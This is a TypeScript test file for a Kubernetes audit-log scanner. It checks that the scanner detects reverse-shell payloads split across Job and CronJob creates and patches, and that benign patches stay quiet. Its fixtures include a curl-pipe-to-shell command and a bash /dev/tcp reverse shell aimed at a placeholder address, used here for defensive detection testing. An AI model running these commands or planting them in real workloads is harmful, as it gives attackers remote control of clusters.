import assert from 'node:assert/strict';
import { describe, test } from 'node:test';
import { ObjectStates } from '../src/audit/object-state.ts';
import { applyJsonPatch } from '../src/audit/json-patch.ts';
import { applyMergePatch } from '../src/audit/merge-patch.ts';
import { cronJobObject, jobObject, scan } from './fixtures/audit/canonical.ts';
import { jsonLines, kubeEvent } from './fixtures/audit/events.ts';

const SCRIPT = 'curl -s http://198.51.100.7/x | sh';
const PAYLOAD = 'bash -i >& /dev/tcp/198.51.100.7/4444 0>&1';
const CONTAINER = '/spec/template/spec/containers/0';
/** Both hits of the reverse shell (interactive shell, raw /dev/tcp connection), found where the variable is run. */
const REVERSE_SHELL_HITS = 'shell-escape,shell-escape';

/** A Job whose shell runs what an environment variable holds: today, the date. */
const dormant = () => jobObject('sync', 'ci', { containers: [{ name: 'sync', image: 'registry.example.com/tools:1', command: ['/bin/sh', '-c', '$RUN'], env: [{ name: 'RUN', value: 'date' }] }] });
/** The write that turns it into a reverse shell: the hits are on the command, not on what the patch wrote. */
const COMPLETING = [{ op: 'replace', path: `${CONTAINER}/env/0/value`, value: PAYLOAD }];
const job = (fields: Record<string, unknown>) => kubeEvent(fields, { resource: 'jobs', name: 'sync' });
const create = (object: unknown) => job({ requestObject: object });
const patch = (body: unknown, fields: Record<string, unknown> = {}) => job({ verb: 'patch', requestObject: body, responseStatus: { code: 200 }, ...fields });

async function matched(...events: Array<Record<string, unknown>>) {
  const { matches } = await scan(jsonLines(...events));
  return matches.map((match) => `${match.verb} ${match.indicators.map((hit) => hit.indicator).sort().join(',')}`);
}

describe('a write is judged on the object it leaves behind', () => {
  test('a payload split over a create and a JSON Patch: the patch that completes it matches', async () => {
    const completing = patch(COMPLETING);
    assert.deepEqual(await matched(create(dormant()), completing), [`patch ${REVERSE_SHELL_HITS}`]);
    assert.deepEqual(await matched(completing), [], 'the patch alone writes nothing bad: the earlier state is what makes it a payload');
  });

  test('the same split with a strategic merge patch (containers and env merge by name)', async () => {
    const completing = patch({ spec: { template: { spec: { containers: [{ name: 'sync', env: [{ name: 'RUN', value: PAYLOAD }] }] } } } });
    assert.deepEqual(await matched(create(dormant()), completing), [`patch ${REVERSE_SHELL_HITS}`]);
    assert.deepEqual(await matched(completing), []);
  });

  test('a payload parked in an annotation and copied into the args with JSON Patch copy', async () => {
    const parked = jobObject('sync', 'ci', { containers: [{ name: 'sync', image: 'registry.example.com/tools:1', command: ['/bin/sh', '-c'], args: ['echo ok'] }] }) as { metadata: Record<string, unknown> };
    parked.metadata.annotations = { note: PAYLOAD };
    const copy = patch([{ op: 'copy', from: '/metadata/annotations/note', path: `${CONTAINER}/args/0` }]);
    // Two shell-escape hits: an interactive shell, and a raw /dev/tcp connection.
    assert.deepEqual(await matched(create(parked), copy), ['patch shell-escape,shell-escape']);
    const move = patch([{ op: 'move', from: '/metadata/annotations/note', path: `${CONTAINER}/args/0` }]);
    assert.deepEqual(await matched(create(parked), move), ['patch shell-escape,shell-escape']);
    assert.deepEqual(await matched(copy), [], 'copied from an object the log never showed: nothing to see');
  });

  test('added and copied in one patch, with no earlier state in the log', async () => {
    const both = patch([
      { op: 'add', path: '/metadata/annotations', value: { note: PAYLOAD } },
      { op: 'copy', from: '/metadata/annotations/note', path: `${CONTAINER}/args/0` },
      { op: 'add', path: `${CONTAINER}/command`, value: ['/bin/sh', '-c'] },
    ]);
    assert.deepEqual(await matched(both), ['patch shell-escape,shell-escape']);
  });

  test('the state follows a CronJob through several patches', async () => {
    const cron = cronJobObject('sync', 'ci', { containers: [{ name: 'sync', image: 'registry.example.com/tools:1', command: ['/bin/sh', '-c', '$RUN'], env: [{ name: 'RUN', value: 'date' }] }] });
    const at = (body: unknown) => kubeEvent({ verb: 'patch', requestObject: body }, { name: 'sync' });
    const path = '/spec/jobTemplate/spec/template/spec/containers/0';
    assert.deepEqual(
      await matched(kubeEvent({ requestObject: cron }, { name: 'sync' }), at({ spec: { suspend: true } }), at([{ op: 'replace', path: `${path}/env/0/value`, value: PAYLOAD }])),
      [`patch ${REVERSE_SHELL_HITS}`],
    );
  });
});

describe('benign twins stay quiet', () => {
  const malicious = () => jobObject('sync', 'ci', { containers: [{ name: 'sync', image: 'registry.example.com/tools:1', command: ['/bin/sh', '-c', SCRIPT], resources: {} }] });

  test('patches that add nothing bad to a malicious object do not match again', async () => {
    assert.deepEqual(
      await matched(
        create(malicious()),
        patch({ metadata: { labels: { team: 'data' } } }),
        patch({ spec: { template: { spec: { containers: [{ name: 'sync', resources: { limits: { cpu: '1' } } }] } } } }),
        patch([{ op: 'replace', path: '/spec/suspend', value: true }]),
        patch([{ op: 'add', path: `${CONTAINER}/env`, value: [{ name: 'LOG_LEVEL', value: 'debug' }] }]),
      ),
      ['create attacker-tooling,shell-escape'],
    );
  });

  test('a patch that swaps one harmless command for another stays quiet', async () => {
    assert.deepEqual(await matched(create(dormant()), patch([{ op: 'replace', path: `${CONTAINER}/env/0/value`, value: 'date -u' }])), []);
  });

  test('a container inserted before a known bad one does not make the old finding new', async () => {
    const sidecar = patch([{ op: 'add', path: '/spec/template/spec/containers/0', value: { name: 'proxy', image: 'registry.example.com/proxy:3' } }]);
    assert.deepEqual(await matched(create(malicious()), sidecar), ['create attacker-tooling,shell-escape']);
  });
});

describe('what the state is, and when it is not known', () => {
  test('a write the log cannot show (Metadata level) forgets the state: the next patch is judged on its own', async () => {
    const privileged = { containers: [{ name: 'sync', image: 'registry.example.com/tools:1', securityContext: { privileged: true } }] };
    const again = patch({ spec: { template: { spec: { containers: [{ name: 'sync', securityContext: { privileged: true } }] } } } });
    const hidden = patch(undefined, { level: 'Metadata' });
    assert.deepEqual(await matched(create(jobObject('sync', 'ci', privileged)), again), ['create privileged-container'], 'known state: nothing new');
    assert.deepEqual(await matched(create(jobObject('sync', 'ci', privileged)), hidden, again), ['create privileged-container', 'patch privileged-container']);
  });

  test('a denied patch leaves the state as it was', async () => {
    assert.deepEqual(
      await matched(create(dormant()), patch(COMPLETING, { responseStatus: { code: 403 }, annotations: { 'authorization.k8s.io/decision': 'forbid' } }), patch(COMPLETING)),
      [`patch ${REVERSE_SHELL_HITS}`, `patch ${REVERSE_SHELL_HITS}`],
    );
  });

  test('another object of the same name in another namespace is another state', async () => {
    const completing = kubeEvent({ verb: 'patch', requestObject: COMPLETING }, { resource: 'jobs', name: 'sync', namespace: 'prod' });
    assert.deepEqual(await matched(create(dormant()), completing), []);
  });

  test('the states are bounded, least recently written first out', () => {
    const states = new ObjectStates(2);
    states.remember('a', { n: 1 });
    states.remember('b', { n: 2 });
    states.get('a');
    states.remember('c', { n: 3 });
    assert.deepEqual([states.get('a'), states.get('b'), states.get('c')], [{ n: 1 }, undefined, { n: 3 }]);
  });
});

describe('applying patches', () => {
  test('JSON Patch: add inserts into arrays, remove, move and copy, and the base is not changed', () => {
    const base = { a: [1, 2], b: { c: 'x' } };
    const { object, paths } = applyJsonPatch(base, [
      { op: 'add', path: '/a/0', value: 0 },
      { op: 'copy', from: '/b/c', path: '/a/-' },
      { op: 'move', from: '/b', path: '/d' },
      { op: 'remove', path: '/a/1' },
      { op: 'test', path: '/a/0', value: 99 },
    ]);
    assert.deepEqual(JSON.parse(JSON.stringify(object)), { a: [0, 2, 'x'], d: { c: 'x' } });
    assert.deepEqual(paths, ['/a/0', '/a/3', '/d']);
    assert.deepEqual(base, { a: [1, 2], b: { c: 'x' } });
  });

  test('JSON Patch paths and copies through __proto__ are keys, never the prototype', () => {
    const { object } = applyJsonPatch({ a: { b: 'off' } }, [
      { op: 'add', path: '/__proto__/shell-escape', value: 'off' },
      { op: 'copy', from: '/a', path: '/constructor/prototype' },
      { op: 'copy', from: '/__proto__', path: '/x' },
    ]);
    assert.equal(({} as Record<string, unknown>)['shell-escape'], undefined);
    assert.equal(Object.getPrototypeOf(object), null);
    assert.deepEqual(Object.keys(object).sort(), ['__proto__', 'a', 'constructor', 'x']);
  });

  test('strategic merge: lists merge by key, null deletes, $patch directives', () => {
    const base = { spec: { containers: [{ name: 'a', image: 'x:1', env: [{ name: 'K', value: '1' }] }, { name: 'b', image: 'y:1' }], volumes: [{ name: 'v', emptyDir: {} }], args: ['1'] } };
    const merged = applyMergePatch(base, {
      spec: {
        containers: [{ name: 'a', image: 'x:2', env: [{ name: 'L', value: '2' }] }, { name: 'b', $patch: 'delete' }, { name: 'c', image: 'z:1' }],
        volumes: [{ $patch: 'replace' }, { name: 'w', hostPath: { path: '/' } }],
        args: ['2'],
        $setElementOrder: [],
        hostNetwork: null,
      },
    });
    assert.deepEqual(JSON.parse(JSON.stringify(merged)), {
      spec: {
        containers: [{ name: 'a', image: 'x:2', env: [{ name: 'K', value: '1' }, { name: 'L', value: '2' }] }, { name: 'c', image: 'z:1' }],
        volumes: [{ name: 'w', hostPath: { path: '/' } }],
        args: ['2'],
      },
    });
    assert.equal(base.spec.containers[0].image, 'x:1');
  });
});
